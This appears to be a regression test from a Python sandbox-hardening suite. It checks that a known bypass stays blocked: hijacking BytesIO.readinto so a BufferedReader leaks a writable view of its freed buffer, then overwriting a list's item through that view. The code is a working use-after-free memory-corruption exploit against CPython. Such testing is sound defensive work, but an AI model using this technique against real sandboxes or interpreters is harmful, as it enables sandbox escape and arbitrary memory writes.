# family: wall (memory: the io guard's getter re-stated with partial.__setstate__: BytesIO.readinto the program's, the buffer view kept past close)   goal: memory   interpreter: /usr/bin/python3
# The seventeenth round's ok_03: the wall made BytesIO.readinto a property whose
# getter was functools.partial(types.MethodType, <C readinto>), and
# partial.__setstate__ on that very object made every BytesIO's readinto the
# program's; a BufferedReader over an exact BytesIO then handed it the writable
# view of its own buffer (X143's goal). Under plain python3 there is no property:
# the instance attribute does the same (X143). The wall: the getter is a bound
# method (no re-initialiser, no state to set), and X143's route stays refused.
import io
import struct
saved = []
def getter(raw):
    def readinto(b):
        saved.append(b)
        return 4
    return readinto
prop = io.BytesIO.__dict__["readinto"]
# Plain attribute reads: the wall's getattr() applies the checker's name rules.
try:
    fget = prop.fget
except AttributeError:
    fget = None
try:
    restate = fget.__setstate__
except AttributeError:
    restate = None
marker = "the marker object"
keep = []
for attempt in range(50):
    raw = io.BytesIO(b"data")
    if restate is not None:
        restate((getter, (), None, None))
    elif fget is None:
        raw.readinto = getter(raw)   # plain python3: X143's instance attribute
    else:
        raise SystemExit("the getter has no __setstate__: " + type(fget).__name__)
    br = io.BufferedReader(raw, 8192)
    br.read(1)
    mv = saved.pop()
    br.close()
    del br
    victim = [None] * 1024
    if struct.unpack_from("<Q", mv, 0)[0] == id(None):
        struct.pack_into("<Q", mv, 0, id(marker))
        seen = victim[0] is marker
        struct.pack_into("<Q", mv, 0, id(None))
        if seen:
            print("MEMORY-OVERWRITTEN: a list's item written through the kept view")
        break
    keep.append((mv, victim))
else:
    print("no list under the kept view")
